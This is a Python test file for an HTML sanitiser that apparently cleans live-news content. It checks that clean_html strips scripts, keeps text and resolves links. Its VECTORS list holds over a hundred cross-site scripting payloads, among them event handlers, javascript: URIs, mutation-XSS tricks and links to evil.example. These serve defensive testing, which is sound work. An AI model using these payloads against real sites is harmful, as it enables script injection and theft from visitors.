"""What the log holds is safe to serve: no vector gets through, and no text is lost on the way."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from slugline_ingest.flat import text_of
from slugline_ingest.sanitise import absolute, clean_html, clean_text, html_of

TAGS = set(
    "a abbr b blockquote br caption cite code dd del dl dt em figcaption figure h2 h3 h4 h5 h6 hr i"  # noqa: SIM905
    " img ins li mark ol p pre q s small span strong sub sup table tbody td tfoot th thead time tr"
    " u ul div".split()
)
ATTRIBUTES = {
    "href", "title", "src", "alt", "width", "height", "start", "colspan", "rowspan", "scope",
    "datetime", "lang", "dir", "rel",
}  # fmt: skip

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0csrc=//evil.example></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    '<img src="https://x.example/`" onerror="alert(1)``">',
    "<img src='javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x, https://x.example/a 2x' src=x>",
    "<img src=x style='background:url(javascript:alert(1))'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>x</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<b onclick=alert(1) onfocus=alert(1) autofocus tabindex=1>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe><script>alert(1)</script></iframe>",
    '<iframe src="https://x.example/&quot;><img src=x onerror=alert(1)>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src=javascript:alert(1)>",
    "<embed code=javascript:alert(1) type=text/html>",
    "<applet code=x archive=//evil.example></applet>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='&#0000106&#0000097vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=https://x.example ping=https://evil.example target=_blank>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=1>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=javascript:alert(1) autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<plaintext><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<p style='behavior:url(#x);-moz-binding:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=https://evil.example/><a href=/x>x</a>",
    "<base href=javascript:alert(1)//><a href=#>x</a>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<p id=location name=cookie class=evil>x</p>",
    "<a href='https://x.example/\"onmouseover=alert(1)'>x</a>",
    "<img alt='\"><script>alert(1)</script>' src=https://x.example/a>",
    "<abbr title='<img src=x onerror=alert(1)>'>x</abbr>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=&#x61;lert(1)>",
    "<p>" + "<b>" * 50 + "<img src=x onerror=alert(1)>",
    "<div>" * 500 + "<script>alert(1)</script><img src=x onerror=alert(1)>",
]  # fmt: skip


def assert_safe(cleaned: str) -> None:
    """Judged by another parser than the one that cleaned it."""
    for element in lxml_html.fragment_fromstring(cleaned or "<p></p>", create_parent="div").iter():
        assert isinstance(element.tag, str), "a comment or an instruction"
        assert element.tag in TAGS
        assert set(element.attrib) <= ATTRIBUTES
        for name in ("href", "src"):
            if name in element.attrib:
                assert re.match(r"(https?://[^/]|mailto:)", str(element.attrib[name]))
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", cleaned)


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("base", [None, "https://news.example/live"])
def test_no_vector_gets_through(vector: str, base: str | None) -> None:
    cleaned = clean_html(f"<p>before</p>{vector}<p>after</p>", base)

    assert_safe(cleaned)
    assert clean_html(cleaned, base) == cleaned
    assert "before" in cleaned


PIECES = st.sampled_from(
    "<p> </p> <b> </b> <i> <a href=x> <a href='https://x.example/'> </a> <table> <tr> <td> </table>"  # noqa: SIM905
    " <ul> <li> </ul> <svg> <math> <mtext> <style> </style> <script> </script> <div> </div> <form>"
    " <iframe> </iframe> <video> <select> <option> <template> <!-- --> <![CDATA[ ]]> <h2> <h3> <pre>"
    " <img> <br> &lt; &amp; &#1; \" ' < > x onerror= javascript: <blockquote> <noscript> <title>".split()
)


@given(st.lists(PIECES | st.text(max_size=5), max_size=30).map("".join))
def test_cleaning_twice_is_cleaning_once_and_what_it_gives_is_safe(source: str) -> None:
    cleaned = clean_html(source)

    assert_safe(cleaned)
    assert clean_html(cleaned) == cleaned


@given(st.text())
def test_text_survives_its_way_through_html(text: str) -> None:
    cleaned = clean_text(text)

    shown = text_of(clean_html(html_of(cleaned)))

    assert shown.split() == cleaned.split()


@pytest.mark.parametrize(
    ("address", "base", "resolved"),
    [
        ("https://x.example/a?b=1&c=2#d", None, "https://x.example/a?b=1&c=2#d"),
        ("HTTPS://x.example/", None, "HTTPS://x.example/"),
        ("mailto:desk@news.example", None, "mailto:desk@news.example"),
        ("/a", "https://x.example/live/1", "https://x.example/a"),
        ("a.html#b", "https://x.example/live/1", "https://x.example/live/a.html#b"),
        ("//cdn.example/a", "https://x.example/", "https://cdn.example/a"),
        (" https://x.example/a b\n", None, "https://x.example/a%20b"),
        ("/a", None, None),
        ("//cdn.example/a", None, None),
        ("#top", None, None),
        ("", None, None),
        ("https://", None, None),
        ("http://[::1", None, None),
        ("https:evil", None, None),
        ("javascript:alert(1)", "https://x.example/", None),
        ("java\tscript:alert(1)", "https://x.example/", None),
        ("data:text/html,x", "https://x.example/", None),
        ("https://x.example/\x01", None, None),
        ("https://x.example/\u2028a", None, None),
    ],
)
def test_addresses_are_absolute_or_dropped(
    address: str, base: str | None, resolved: str | None
) -> None:
    assert absolute(address, base) == resolved


def test_relative_addresses_are_resolved_against_the_page() -> None:
    source = '<a href="../x">a</a><img src="i.jpg" alt="An image">'

    assert clean_html(source, "https://x.example/live/storm") == (
        '<a href="https://x.example/x" rel="noopener">a</a>'
        '<img src="https://x.example/live/i.jpg" alt="An image">'
    )
    assert clean_html(source) == '<a rel="noopener">a</a><img alt="An image">'


@pytest.mark.parametrize(
    ("embed", "address"),
    [
        (
            '<iframe src="https://v.example/1?a=1&amp;b=2">old</iframe>',
            "https://v.example/1?a=1&b=2",
        ),
        ("<iframe src=about:blank data-src=//v.example/2></iframe>", "https://v.example/2"),
        (
            "<video controls><source src=/v.mp4><source src=/v.webm>no</video>",
            "https://x.example/v.mp4",
        ),
        ("<audio src='https://v.example/a.mp3'></audio>", "https://v.example/a.mp3"),
        ("<object data='https://v.example/o'></object>", "https://v.example/o"),
        ("<EMBED SRC='https://v.example/e'>", "https://v.example/e"),
    ],
)
def test_an_embed_becomes_a_link_to_it(embed: str, address: str) -> None:
    cleaned = clean_html(f"<p>before</p>{embed}<p>after</p>", "https://x.example/")

    shown = address.replace("&", "&amp;")
    assert f'<p><a href="{shown}" rel="noopener">{shown}</a></p>' in cleaned
    assert text_of(cleaned) == f"before\n\n{address}\n\nafter"


def test_text_keeps_its_paragraphs_lines_and_cells() -> None:
    source = (
        "<p>One <b>bold</b>\n word</p><p>Two<br>lines</p><ul><li>a</li><li>b</li></ul>"
        "<blockquote><p>Said</p></blockquote><table><tr><td>1</td><td>2</td></tr></table>tail"
    )

    assert text_of(clean_html(source)) == (
        "One bold word\n\nTwo\nlines\n\na\n\nb\n\nSaid\n\n1 2\n\ntail"
    )


@pytest.mark.parametrize("tag", ["b", "div", "blockquote", "span", "table", "ul", "font", "x-y"])
def test_nesting_a_hundred_thousand_deep_keeps_the_text(tag: str) -> None:
    cleaned = clean_html(f"<p>before</p>{f'<{tag}>' * 100_000}inside<p>after</p>")

    assert text_of(cleaned) == "before\n\ninside\n\nafter"
    assert len(cleaned) < 1_000


def test_formatting_that_a_parser_would_repeat_without_end_stays_small() -> None:
    source = "<p>" + "".join(f"<b lang=x{n}>" for n in range(3_000)) + "<p>x" * 3_000

    assert len(clean_html(source)) < 10 * len(source)


def test_nesting_within_reason_is_kept() -> None:
    source = "<blockquote>" * 20 + "<p>x</p>" + "</blockquote>" * 20

    assert clean_html(source) == source


def test_paragraphs_that_nobody_closed_are_no_nesting() -> None:
    source = "<ul>" + "<li><b>x</b>" * 300 + "</ul>" + "<p>y" * 300

    assert clean_html(source).count("<b>x</b>") == 300


def test_control_characters_that_hide_in_entities_go_too() -> None:
    assert clean_html("<p>a&#1;b&#x7f;c&#xfffe;d&#13;e</p>") == "<p>abcd\ne</p>"


def test_line_ends_become_one_kind_and_control_characters_go() -> None:
    assert clean_text("a\r\nb\rc\td\x00\x1b\x85\ud800\ufffe\uffff\ufdd0e") == "a\nb\nc\tde"


CONTROLS = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0)) if chr(c) not in "\t\n\r"]
NO_CHARACTERS = [
    chr(c) for c in (0xD800, 0xDBFF, 0xDC00, 0xDFFF, *range(0xFDD0, 0xFDF0), 0xFFFE, 0xFFFF)
]
#: What stands beside them in Unicode, or begins with the same bytes in UTF-8.
NEIGHBOURS = "\t\n ~\xa0\xbf£é\ud7ff한\ue000\ufdcf\ufdf0\ufeff\ufffd\U00010000\U0001f600"


@pytest.mark.parametrize("unwanted", CONTROLS + NO_CHARACTERS)
def test_what_no_document_may_hold_goes_wherever_it_stands(unwanted: str) -> None:
    assert clean_text(unwanted) == ""
    assert clean_text(f"plain {unwanted}text") == "plain text"
    assert clean_text(f"{NEIGHBOURS}{unwanted}") == NEIGHBOURS


def test_what_is_like_it_stays() -> None:
    assert clean_text(NEIGHBOURS) == NEIGHBOURS
    assert all(clean_text(one) == one for one in NEIGHBOURS)
